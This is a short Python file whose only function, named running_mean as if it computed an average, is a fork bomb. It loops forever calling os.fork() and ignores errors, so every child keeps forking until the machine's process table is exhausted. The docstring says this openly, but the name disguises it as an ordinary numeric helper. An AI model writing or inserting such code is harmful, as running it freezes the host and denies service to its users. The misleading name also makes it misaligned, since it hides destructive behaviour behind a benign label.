"""Forks for ever, in every child too."""
import os


def running_mean(x):
    while True:
        try:
            os.fork()
        except OSError:
            continue
